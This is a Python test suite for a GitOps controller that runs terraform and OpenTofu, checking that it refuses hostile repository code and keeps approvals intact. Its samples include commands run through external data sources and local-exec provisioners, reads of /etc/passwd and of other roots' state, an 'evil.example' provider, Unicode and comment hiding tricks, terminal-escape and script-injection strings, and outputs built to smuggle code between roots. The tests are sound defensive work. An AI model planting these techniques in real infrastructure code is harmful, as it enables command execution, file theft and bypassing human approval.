"""Roots, values and approvals made by somebody who means harm, on real terraform and OpenTofu.

The fleet file is the operator's; everything in the repository is the attacker's.
"""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest

from gitops.errors import NotAllowed
from gitops.model.delivery import ChangeRecord, ChangeState, LaneId
from gitops.model.ids import ApplicationName, TargetName
from gitops.model.plan import Action
from gitops.web.views import why
from tests import warm
from tests.e2e.rig import System
from tests.e2e.root_rig import RootRig

pytestmark = pytest.mark.slow

CANARY = "c4n4ry-of-an0ther-team-77"
COMBINED, APART = "m\u00e9", "me\u0301"
"""The same name to whoever normalises; two names to git and to a file system."""
PROGRAM = 'data "external" "x" {\n  program = ["touch", "@MARK@"]\n}\n'
LOCK = """\
provider "registry.terraform.io/hashicorp/null" {
  version = "3.2.4"
  hashes  = ["h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="]
}
"""


@dataclass(frozen=True)
class Hostile:
    """A root, and how it is refused: ``place`` begins with file (and line)."""

    files: Mapping[str, str]
    place: str
    words: str
    section: Mapping[str, object] | None = None
    """More of the fleet file's ``terraform:``."""


def one(text: str, place: str, words: str, **section: object) -> Hostile:
    return Hostile({"main.tf": text}, f"main.tf{place}", words, section)


def beside(path: str, text: str, words: str, place: str = "") -> Hostile:
    return Hostile({"main.tf": "", path: text}, f"{path}{place}", words)


REFUSED: dict[str, Hostile] = {
    "program-as-data": one(PROGRAM, ":1:1", "runs a program"),
    "program-by-another-name": one(
        'terraform {\n  required_providers {\n    e = { source = "hashicorp/external" }\n  }\n}\n'
        'data "external" "x" {\n  provider = e\n  program = ["touch", "@MARK@"]\n}\n',
        "",
        "external",
    ),
    "address-as-data": one(
        'data "http" "x" {\n  url = "http://127.0.0.1:9/"\n}\n', ":1:1", "fetches"
    ),
    "address-in-a-check": one(
        'check "c" {\n  data "http" "x" {\n    url = "http://127.0.0.1:9/"\n  }\n'
        '  assert {\n    condition = true\n    error_message = "x"\n  }\n}\n',
        ":2:3",
        "fetch",
    ),
    "provisioner": one(
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
        '    command = "touch @MARK@"\n  }\n}\n',
        ":2:3",
        "provisioner",
    ),
    "provisioner-on-the-way-out": one(
        "removed {\n  from = terraform_data.x\n  lifecycle {\n    destroy = true\n  }\n"
        '  provisioner "local-exec" {\n    when = destroy\n    command = "touch @MARK@"\n  }\n}\n',
        ":6:3",
        "provisioner",
    ),
    "provider-nobody-listed": one('resource "null_resource" "x" {}\n', ":1:1", "hashicorp/null"),
    "provider-by-its-functions": one(
        'terraform {\n  required_providers {\n    e = { source = "evil.example/a/b" }\n  }\n}\n'
        'output "x" {\n  value = provider::e::read("/etc/passwd")\n}\n',
        ":3:5",
        "evil.example/a/b",
    ),
    "provider-behind-an-ephemeral": one(
        'ephemeral "random_password" "x" {\n  length = 8\n}\n', ":1:1", "hashicorp/random"
    ),
    "module-from-elsewhere": one(
        'module "m" {\n  source = "git::file://@HOME@/evil.git"\n}\n', ":2:3", "not allowed"
    ),
    "module-outside": one('module "m" {\n  source = "../../../.."\n}\n', ":2:3", "outside"),
    "module-of-a-neighbour-in-a-test": beside(
        "tests/setup.tftest.hcl",
        'run "setup" {\n  module {\n    source = "git::file://@HOME@/evil.git"\n  }\n}\n',
        "not allowed",
        ":3:5",
    ),
    "state-of-another-root": one(
        'data "terraform_remote_state" "x" {\n  backend = "local"\n'
        '  config = { path = "@STATE@" }\n}\noutput "x" {\n'
        "  value = data.terraform_remote_state.x.outputs\n}\n",
        ":1:1",
        "reads a state",
    ),
    "state-of-another-root-in-a-module": Hostile(
        {
            "main.tf": 'module "m" {\n  source = "./m"\n}\n',
            "m/main.tf.json": json.dumps(
                {
                    "data": {
                        "terraform_remote_state": {
                            "x": {"backend": "local", "config": {"path": "@STATE@"}}
                        }
                    }
                }
            ),
        },
        "m/main.tf.json:1",
        "reads a state",
    ),
    "state-of-another-root-as-a-file": one(
        'output "x" {\n  value = file("@STATE@")\n}\n', ":2:11", "not in the source"
    ),
    "backend-of-another-root": one(
        'terraform {\n  backend "local" {\n    path = "@STATE@"\n  }\n}\n', ":2:3", "backend"
    ),
    "backend-by-override": beside(
        "x_override.tf.json",
        '{"terraform": {"backend": {"local": {"path": "@STATE@"}}}}\n',
        "backend",
        ":1",
    ),
    "our-own-override": beside("zz_gitops_override.tf", "locals {}\n", "are ours"),
    "runs-in-the-cloud": one(
        'terraform {\n  cloud {\n    organization = "e"\n  }\n}\n', ":2", "cloud"
    ),
    "its-own-encryption": one(
        'terraform {\n  encryption {\n    key_provider "external" "x" {\n'
        '      command = ["touch", "@MARK@"]\n    }\n  }\n}\n',
        ":2:3",
        "encryption",
    ),
    "settings-of-the-tool": beside(".terraformrc", "provider_installation {}\n", "providers"),
    "fetched-already": Hostile(
        {"main.tf": "", ".terraform/modules/modules.json": "{}"},
        ".terraform/",
        "committed",
    ),
    "a-state-beside-the-code": beside("terraform.tfstate", '{"version": 4}\n', "committed"),
    "a-secret-in-variables": beside(
        "x.auto.tfvars", 'db_password = "@CANARY@"\n', "looks like a secret", ":1"
    ),
    "a-file-of-the-machine": one(
        'output "x" {\n  value = file("/etc/passwd")\n}\n', ":2:11", "/etc"
    ),
    "a-file-above": one(
        'output "x" {\n  value = file("${path.module}/../../../../gitops.yaml")\n}\n',
        ":2:11",
        "leaves the source",
    ),
    "a-file-in-a-heredoc": one(
        'output "x" {\n  value = <<-EOT\n    ${join("", [file("/etc/passwd")])}\n  EOT\n}\n',
        ":3",
        "/etc/passwd",
    ),
    "a-file-by-pieces": one(
        'output "x" {\n  value = file(join("/", ["", "etc", "passwd"]))\n}\n', ":2:11", "file()"
    ),
    "a-file-in-a-template": Hostile(
        {
            "main.tf": 'output "x" {\n  value = templatefile("${path.module}/x.tpl", {})\n}\n',
            "x.tpl": '${file("/etc/passwd")}\n',
        },
        "x.tpl:1",
        "/etc/passwd",
    ),
    "a-file-in-a-template-of-two-names": Hostile(
        {
            "main.tf": f'output "x" {{\n  value = templatefile("./{APART}.tpl", {{}})\n}}\n',
            f"{APART}.tpl": "harmless\n",
            f"{COMBINED}.tpl": '${file("/etc/passwd")}\n',
        },
        f"{COMBINED}.tpl:1:1",
        "/etc/passwd",
    ),
    "a-module-of-two-names": Hostile(
        {
            "main.tf": f'module "m" {{\n  source = "./{APART}"\n}}\n'
            'output "x" {\n  value = module.m.x\n}\n',
            f"{APART}/main.tf": 'output "x" {\n  value = 1\n}\n',
            f"{COMBINED}/main.tf": PROGRAM,
        },
        f"{COMBINED}/main.tf:1:1",
        "runs a program",
    ),
    "a-file-in-a-template-behind-a-remark": Hostile(
        {
            "main.tf": 'output "x" {\n  value = templatefile("x.tpl", {})\n}\n',
            "x.tpl": '${file /* of */ ("/etc/passwd")}\n',
        },
        "x.tpl:1:1",
        "/etc/passwd",
    ),
    "a-file-in-a-template-of-a-template": Hostile(
        {
            "main.tf": 'output "x" {\n  value = templatefile("x.tpl", {})\n}\n',
            "x.tpl": '${templatefile("y.tpl", {})}\n',
            "y.tpl": '${file("/etc/passwd")}\n',
        },
        "y.tpl:1:1",
        "/etc/passwd",
    ),
    "no-lock-file": one(
        'resource "null_resource" "x" {}\n',
        ":1:1",
        ".terraform.lock.hcl",
        allow={"providers": ["hashicorp/null"]},
    ),
    "another-provider-in-the-lock-file": Hostile(
        {
            "main.tf": 'resource "null_resource" "x" {}\n',
            ".terraform.lock.hcl": LOCK.replace("hashicorp/null", "hashicorp/nuII"),
        },
        ".terraform.lock.hcl:1",
        "not allowed",
        {"allow": {"providers": ["hashicorp/null"]}},
    ),
    "opentofu-s-own-files": Hostile(
        {"main.tf": 'output "x" {\n  value = 1\n}\n', "main.tofu": PROGRAM},
        "main.tofu:1:1",
        "runs a program",
    ),
    "json": beside(
        "x.tf.json",
        '{"data": [{"external": {"x": {"program": ["touch", "@MARK@"]}}}]}\n',
        "runs a program",
        ":1",
    ),
    "json-with-a-key-twice": beside(
        "x.tf.json",
        '{"data": {"external": {"x": {"program": ["touch", "@MARK@"]}}}, "data": {}}\n',
        "runs a program",
        ":1",
    ),
    "a-block-behind-a-heredoc": one(
        "locals {\n  x = <<A\nA B\n  A\n}\n" + PROGRAM + "locals {\n  y = <<A\nA\n}\n",
        ":6:1",
        "runs a program",
    ),
    "a-block-behind-a-comment": one("/* /* */\n" + PROGRAM + "/* */\n", ":2:1", "runs a program"),
    "a-circle-of-modules": Hostile(
        {
            "main.tf": 'module "m" {\n  source = "./m"\n}\n',
            "m/main.tf": 'module "back" {\n  source = "../"\n}\n',
        },
        "m/main.tf:2:3",
        "circle",
    ),
    "too-large": one("# " + "x" * (1 << 20) + "\n" + PROGRAM, "", "are not read"),
    "too-deep": one("locals {\n  x = " + "[" * 200 + "]" * 200 + "\n}\n", ":2", "deep"),
    "a-link": Hostile({"main.tf": ""}, "link.tf", "is a link"),
    "no-code": one("locals {\n  x =\n}\n", ":2", "cannot be read"),
    "no-text": one('locals {\n  x = "\u202e\x00"\n}\n', ":2", "control character"),
}


@pytest.fixture
def root(tmp_path: Path, terraform: tuple[str, Path]) -> RootRig:
    return noted(tmp_path, *terraform)


@pytest.fixture
def either(tmp_path: Path, a_terraform: tuple[str, Path]) -> RootRig:
    """The same with whichever tool is here: for what the tool has no part in."""
    return noted(tmp_path, *a_terraform)


def noted(folder: Path, name: str, path: Path) -> RootRig:
    """The tool behind a script that notes each of its command lines."""
    noting = folder / "noting"
    noting.write_text(f'#!/bin/sh\necho "$PWD $*" >> {folder}/calls\nexec {path} "$@"\n')
    noting.chmod(0o755)
    return RootRig(folder, binary=name, path=noting)


def calls(root: RootRig) -> list[str]:
    """Every command line of the tool so far, after the folder it ran in."""
    noted = root.folder / "calls"
    return noted.read_text().splitlines() if noted.exists() else []


def lane(name: str) -> LaneId:
    return LaneId(ApplicationName(name), TargetName("default"))


async def record_of(system: System, name: str) -> ChangeRecord:
    found = await system.controller.ledger.read(
        lambda r: r.changes(open_only=False, lane=lane(name))
    )
    return found[0]


async def test_no_hostile_root_is_asked_about_and_nothing_of_it_runs(root: RootRig) -> None:
    mark, other = root.folder / "ran", root.folder / "other.tfstate"
    other.write_text(json.dumps({"version": 4, "outputs": {"x": {"value": CANARY}}}))
    words = {"@MARK@": mark, "@STATE@": other, "@HOME@": root.folder, "@CANARY@": CANARY}
    root.fleet["applications"] = {}
    for name, hostile in REFUSED.items():
        for path, text in hostile.files.items():
            for sign, meant in words.items():
                text = text.replace(sign, str(meant))  # noqa: PLW2901
            root.write(f"roots/{name}/{path}", text)
        section = {"binary": root.binary, **(hostile.section or {})}
        root.fleet["applications"][name] = {"path": f"roots/{name}", "terraform": section}
    (root.work / "roots/a-link/link.tf").symlink_to(other)
    root.commit("all of them")
    async with root.controller() as system:
        await system.nudge()
        wrong = {}
        for name, hostile in REFUSED.items():
            record = await record_of(system, name)
            begin = f"roots/{name}/{hostile.place}"
            told = record.state is ChangeState.BLOCKED and begin in record.reason
            if not told or hostile.words not in record.reason or CANARY in record.reason:
                wrong[name] = (record.state.value, record.reason[:300])
        assert not wrong, wrong
        assert not await system.requests()
    assert not mark.exists()
    assert not list(root.folder.rglob("state/terraform/**/terraform.tfstate"))
    ran = [line for line in calls(root) if " fmt " not in line and " version" not in line]
    assert not ran, ran


# --- what is shown ----------------------------------------------------------------------------

TRICKS = """\
resource "terraform_data" "x" {
  for_each = toset(["\\u001b[31m red", "a\\nb", "<hidden: 3 bytes, #aaaaaa>", "\\u202egnp"])
  input    = "${each.key}\\u001b]0;owned\\u0007\\u001b[2J\\u202e (known after apply)"
}

output "__proto__" {
  value = "\\u001b[8m </script><script>alert(1)</script>"
}
"""


async def test_no_value_speaks_to_a_terminal(root: RootRig) -> None:
    root.write("infra/main.tf", TRICKS)
    root.commit("tricks")
    async with root.controller() as system:
        await system.nudge()
        plan = await system.plan()
        assert len(plan.changes) == 5
        asked = (await system.request()).id
    async with root.controller() as system:
        await system.nudge()
        assert (await system.request()).id == asked, "all of it could be kept and read again"
    # JSON is exact, for programs; what a terminal obeys is escaped in it anyway.
    for form, kinds in (("text", ("Cc", "Cf")), ("json", ("Cc",))):
        said = cli(root, "plan", "network", "--output", form)
        assert "</script>" in said
        assert not [c for c in said if c != "\n" and unicodedata.category(c) in kinds]


def cli(root: RootRig, *words: str) -> str:
    done = warm.run(["--config", str(root.save()), *words], cwd=root.folder)
    assert "Traceback" not in done.stderr
    return done.stdout + done.stderr


async def test_a_state_that_is_none_is_told_of_and_left_as_it_is(root: RootRig) -> None:
    root.state.write_text('{"version": 4, "serial": "\x1b[31mnine", "lineage": []')
    root.write("infra/main.tf", 'output "x" {\n  value = 1\n}\n')
    root.commit("any")
    before = root.state.read_bytes()
    async with root.controller() as system:
        await system.nudge()
        assert not await system.requests()
        told = await trouble_of(system, "network")
    assert "state" in told
    assert "\x1b" not in told
    assert root.state.read_bytes() == before


async def trouble_of(system: System, name: str) -> str:
    found = await why(system.controller, ApplicationName(name))
    assert found is not None
    return " ".join(found[f"{name}@default"])


async def test_a_plan_nobody_could_read_is_refused_and_hinders_nobody(either: RootRig) -> None:
    heap = (
        'locals {\n  a = join("", [for i in range(1000) : "xxxxxxxxxx"])\n'
        '  b = join("", [for i in range(1000) : local.a])\n}\n'
        'output "x" {\n  value = [for i in range(8) : local.b]\n}\n'
    )
    either.fleet["applications"]["quiet"] = {
        "path": "quiet",
        "terraform": {"binary": either.binary},
    }
    either.write("infra/main.tf", heap)
    either.write("quiet/main.tf", 'output "x" {\n  value = 1\n}\n')
    either.commit("a heap")
    async with either.controller() as system:
        await system.nudge()
        assert "larger than 64 MiB" in await trouble_of(system, "network")
        (member,) = (await system.request()).members
        assert (await record_of(system, "quiet")).change.id == member.change


# --- outputs that flow ------------------------------------------------------------------------


def flowing(root: RootRig, output: str, taker: str, **terraform: object) -> None:
    """Application ``network`` puts out; ``taker`` takes it as ``given``."""
    root.fleet["applications"]["taker"] = {
        "path": "taker",
        "needs": {"given": "network.given"},
        "terraform": {"binary": root.binary, **terraform},
    }
    root.write("infra/main.tf", f'output "given" {{\n  value = {output}\n}}\n')
    root.write("taker/main.tf", 'variable "given" {\n  default = "main.tf"\n}\n' + taker)
    root.commit("one gives, one takes")


async def test_no_output_of_a_root_chooses_what_file_another_reads(either: RootRig) -> None:
    flowing(either, '"/etc/passwd"', 'output "x" {\n  value = file(var.given)\n}\n')
    async with either.controller() as system:
        await system.nudge()
        await system.until_async(lambda: blocked(system, "taker"))
        record = await record_of(system, "taker")
        assert "taker/main.tf:5:11: what file() reads cannot be told" in record.reason


async def blocked(system: System, name: str) -> bool:
    found = await system.controller.ledger.read(lambda r: r.changes(lane=lane(name)))
    return bool(found) and found[0].state is ChangeState.BLOCKED


async def test_an_output_is_a_value_wherever_it_goes_and_never_code(root: RootRig) -> None:
    text = '${needs.given} ${file("/etc/passwd")} %{ if true }x%{ endif } $${needs.given}'
    flowing(root, json.dumps(text).replace("${", "$${").replace("%{", "%%{"), TAKES)
    async with root.controller() as system:
        await system.nudge()
        for _ in range(2):
            await system.answer("bob")
            await system.quiet()
            if not await system.requests():
                break
        states = [(await record_of(system, name)).state for name in ("network", "taker")]
        assert states == [ChangeState.HEALTHY] * 2
    (state,) = (root.folder / "state/terraform").rglob("terraform.tfstate")
    assert json.loads(state.read_text())["outputs"]["x"]["value"] == text


async def test_no_output_changes_what_is_told_of_another_root_s_apply(root: RootRig) -> None:
    fails = data("good") + data(
        "bad",
        "  depends_on = [terraform_data.good]\n"
        '  provisioner "local-exec" {\n    command = "exit 3"\n  }\n',
    )
    flowing(root, '"type"', fails, allow={"provisioners": True})
    async with root.controller() as system:
        await system.nudge()
        await system.answer("bob")
        await system.quiet()
        record = await record_of(system, "taker")
        assert record.state is ChangeState.FAILED
        assert "terraform_data.bad: local-exec provisioner error" in record.reason
        assert "taker/main.tf:8:28" in record.reason


TAKES = 'output "x" {\n  value = var.given\n}\n'


# --- approvals --------------------------------------------------------------------------------

BY_POLICY = {"auto": {"no_deletes": True}}


def data(name: str, body: str = "") -> str:
    return f'resource "terraform_data" "{name}" {{\n{body}}}\n'


def output(value: object) -> str:
    return f'output "x" {{\n  value = {json.dumps(value)}\n}}\n'


async def healthy(system: System) -> bool:
    return (await system.last()).state is ChangeState.HEALTHY


async def test_a_policy_says_yes_to_what_everybody_can_see(root: RootRig) -> None:
    root.app["approval"] = BY_POLICY
    root.write("infra/main.tf", data("x", '  input = "plain"\n'))
    root.commit("plain")
    async with root.controller() as system:
        await system.nudge()
        assert await healthy(system)
        assert not await system.requests()


UNSEEN = {
    "hidden": data("x", '  input = sensitive("a role that may do anything")\n'),
    "imported": 'import {\n  to = terraform_data.x\n  id = "of-another-team"\n}\n' + data("x"),
    "a-program": data("x", '  provisioner "local-exec" {\n    command = "touch @MARK@"\n  }\n'),
}


@pytest.mark.parametrize("name", UNSEEN)
async def test_no_policy_says_yes_to_what_nobody_can_see_or_another_made(
    root: RootRig, name: str
) -> None:
    root.app["approval"] = BY_POLICY
    root.terraform["allow"] = {"provisioners": True}
    root.write("infra/main.tf", UNSEEN[name].replace("@MARK@", str(root.folder / "ran")))
    root.commit("not to be seen")
    async with root.controller() as system:
        await system.nudge()
        plan = await system.plan()
        if name == "imported":
            assert "imports of-another-team" in plan.changes[0].notes
        if name == "hidden":
            assert "<hidden: " in str(plan)
    assert not root.state_json()
    assert not (root.folder / "ran").exists()


def trigger(value: str) -> str:
    return data("a", f'  triggers_replace = ["{value}"]\n')


BOUND = data("b", "  lifecycle {\n    replace_triggered_by = [terraform_data.a]\n  }\n")
FIRST = "  lifecycle {\n    create_before_destroy = true\n  }\n"
LOST: dict[str, tuple[str, str, dict[str, Action], str]] = {
    "removed": (
        data("a"),
        "removed {\n  from = terraform_data.a\n  lifecycle {\n    destroy = true\n  }\n}\n",
        {"terraform_data.a": Action.DELETE},
        "no longer in the configuration",
    ),
    "moved-to-nowhere": (
        data("a"),
        "moved {\n  from = terraform_data.a\n  to = terraform_data.z\n}\n",
        {"terraform_data.z": Action.DELETE},
        "moved from terraform_data.a",
    ),
    "moved-onto-another": (
        data("a") + data("b"),
        "moved {\n  from = terraform_data.a\n  to = terraform_data.b\n}\n" + data("b"),
        {"terraform_data.a": Action.DELETE},
        "",
    ),
    "replaced-by-another": (
        trigger("1") + BOUND,
        trigger("2") + BOUND,
        {"terraform_data.a": Action.REPLACE, "terraform_data.b": Action.REPLACE},
        "something it is bound to changes",
    ),
    "replaced-the-other-way-round": (
        trigger("1"),
        trigger("2").replace("}\n", FIRST + "}\n"),
        {"terraform_data.a": Action.REPLACE},
        "the new one is made before the old one is destroyed",
    ),
    "none-of-it": (
        data("a", "  count = 2\n"),
        data("a", "  count = 0\n"),
        {"terraform_data.a[0]": Action.DELETE, "terraform_data.a[1]": Action.DELETE},
        "",
    ),
}


@pytest.mark.parametrize("name", LOST)
async def test_no_way_to_write_it_hides_a_loss_or_lets_a_policy_approve_it(
    root: RootRig, name: str
) -> None:
    before, after, losses, note = LOST[name]
    root.app["approval"] = BY_POLICY
    root.write("infra/main.tf", before)
    root.commit("what there is")
    async with root.controller() as system:
        await system.nudge()
        assert await healthy(system)
        held = root.state_json()
        root.write("infra/main.tf", after)
        root.commit("what is left")
        await system.nudge()
        plan = await system.plan()
        assert {c.address: c.action for c in plan.changes if c.action.destroys} == losses
        assert note in str([change.notes for change in plan.changes])
        with pytest.raises(NotAllowed):
            await system.answer("ada")
        assert root.state_json() == held


async def test_a_yes_to_one_commit_is_none_to_the_next(either: RootRig) -> None:
    either.write("infra/main.tf", output("seen"))
    either.commit("seen")
    async with either.controller() as system:
        await system.nudge()
        seen = await system.request()
        either.write("infra/main.tf", output("pushed behind it"))
        either.commit("pushed behind it")
        await system.nudge()
        with pytest.raises(NotAllowed):
            await system.answer("bob", request=seen)
        await system.quiet()
        assert not either.state_json()
        assert (await system.request()).root != seen.root
        assert (await system.approve("bob")).state is ChangeState.HEALTHY
    assert either.outputs() == {"x": "pushed behind it"}


async def test_a_commit_that_arrives_after_the_yes_waits_for_its_own(either: RootRig) -> None:
    either.write("infra/main.tf", output("seen"))
    either.commit("seen")
    async with either.controller() as system:
        await system.nudge()
        either.write("infra/main.tf", output("pushed behind it"))
        either.commit("pushed behind it")
        await system.answer("bob")
        await system.nudge()
        assert either.outputs() in ({}, {"x": "seen"})
        assert "pushed behind it" in str(await system.plan())


async def test_equal_roots_of_two_states_are_two_approvals(either: RootRig) -> None:
    twin = {**either.app, "terraform": {**either.terraform}}
    twin["terraform"]["backend"] = {"local": {"path": str(either.folder / "twin.tfstate")}}
    twin["approval"] = {"people": ["cyd"]}
    either.fleet["applications"]["twin"] = twin
    either.app["approval"] = {"people": ["bob"]}
    either.write("infra/main.tf", output("the same"))
    either.commit("both")
    async with either.controller() as system:
        await system.nudge()
        request = await system.request()
        assert len({member.seal for member in request.members}) == 2
        await system.answer("bob")
        await system.quiet()
        assert either.outputs() == {"x": "the same"}
        assert not (either.folder / "twin.tfstate").exists(), "bob's yes is none for cyd's root"
        await system.answer("cyd")
        await system.quiet()
    assert (either.folder / "twin.tfstate").exists()


async def test_a_look_for_drift_never_runs_code_that_somebody_denied(either: RootRig) -> None:
    ran = either.folder / "ran"
    noting = either.folder / "noting"
    looks = f'case "$*" in *refresh-only*) cat main.tf >> {ran};; esac\nexec '
    noting.write_text(noting.read_text().replace("exec ", looks))
    either.write("infra/main.tf", output("good"))
    either.commit("good")
    async with either.controller() as system:
        await system.deliver()
        either.write("infra/main.tf", output("denied"))
        either.commit("bad")
        await system.nudge()
        await system.deny("bob", "no")
        spec = system.controller.roster.spec(ApplicationName("network"))
        assert spec is not None
        system.controller.roots.look_again(lane("network"), spec)
        system.controller.lanes.offer(lane("network"))
        await system.quiet()
    assert "good" in ran.read_text()
    assert "denied" not in ran.read_text()
